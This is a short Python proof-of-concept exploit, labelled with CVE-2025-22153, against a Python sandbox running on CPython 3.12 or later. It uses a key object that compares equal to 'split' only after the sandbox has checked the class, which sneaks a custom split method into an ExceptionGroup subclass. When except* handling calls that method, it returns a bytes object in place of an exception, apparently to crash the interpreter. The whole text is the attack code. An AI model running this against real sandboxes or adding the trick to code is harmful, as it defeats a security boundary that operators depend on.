# technique: an exception group class with its own split, by a key that is equal to 'split' when CPython asks and not when the sandbox does
# goal: crash
# python: 3.12+
# mended: later releases
# source: CVE-2025-22153, own analysis
class Key(str):
    __hash__ = str.__hash__

    def __eq__(self, other):
        return not hidden and str.__eq__(self, other)


hidden = True
Group = type('Group', (ExceptionGroup,),
             {Key('split'): lambda self, kind: (None, fake)})
group = Group('x', [ValueError()])
hidden = False
fake = b'A' * 200
try:
    try:
        raise group
    except* TypeError:
        pass
except BaseException:
    pass
